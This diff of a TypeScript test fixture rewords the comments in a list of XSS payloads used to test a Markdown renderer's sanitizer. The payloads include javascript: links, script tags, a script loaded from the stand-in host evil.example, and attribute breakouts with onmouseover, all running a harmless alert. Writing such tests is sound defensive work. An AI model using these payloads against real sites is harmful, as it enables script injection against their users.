@@ -1,12 +1,12 @@
 /**
- * Hostile answers, written for this test after the classes in OWASP's filter evasion cheat sheet and of mutation
- * XSS, and what is Markdown's own. Each calls `alert` if it runs, or asks `evil.example` if it loads.
+ * Hostile answers, written for this test after the classes in OWASP's filter evasion cheat sheet, those of mutation
+ * XSS, and those that are specific to Markdown. Each calls `alert` if it runs, or requests `evil.example` if it loads.
  */
 
 const RUN = "alert(1)";
 const HOST = "//evil.example";
 
-/** Addresses that must lead nowhere. */
+/** Addresses to which no link may lead. */
 export const ADDRESSES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -55,7 +55,7 @@ export const ADDRESSES = [
   `/api/contents`,
 ];
 
-/** Where Markdown takes an address. */
+/** The places in Markdown that take an address. */
 const CARRIERS: readonly ((address: string) => string)[] = [
   (address) => `[click](${address})`,
   (address) => `[click](<${address}>)`,
@@ -73,7 +73,7 @@ const CARRIERS: readonly ((address: string) => string)[] = [
 
 export const CARRIED = ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address)));
 
-/** What would be elements if anything parsed it. */
+/** Texts that would become elements if they were parsed as HTML. */
 export const MARKUP = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=https:${HOST}/x.js></SCRIPT>`,
@@ -160,7 +160,7 @@ export const MARKUP = [
   `\${${RUN}}`,
 ];
 
-/** What breaks out of one thing into another, if something does. */
+/** Attempts to break out of one construct into another. */
 export const BREAKOUTS = [
   `[a](https://x.example "title\\" onmouseover=\\"${RUN}")`,
   `[a](https://x.example"onmouseover="${RUN})`,
@@ -207,7 +207,7 @@ export const BREAKOUTS = [
   `<div>\n\n**[x](javascript:${RUN})**\n\n</div>`,
 ];
 
-/** All that JSON can hold where something else was expected. */
+/** JSON values of every type, for fields that expect another type. */
 export const VALUES = [undefined, null, true, false, 0, -1, 1.5, 1e308, "", "x", [], [1], {}, { x: 1 }];
 
 /** A picture of one pixel, as PNG in base64. */
